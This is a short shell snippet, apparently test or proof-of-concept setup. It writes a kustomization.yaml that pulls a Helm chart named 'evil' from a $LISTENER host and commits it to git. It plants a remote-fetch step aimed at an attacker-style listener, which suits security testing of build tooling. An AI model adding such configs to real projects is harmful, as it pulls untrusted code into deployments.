printf 'resources:\n- ok.yaml\nhelmCharts:\n- name: evil\n  repo: %s/charts\n  version: 1.0.0\n  releaseName: r\n' \
  "$LISTENER" > deploy/kustomization.yaml
git add deploy && git commit -qm chart
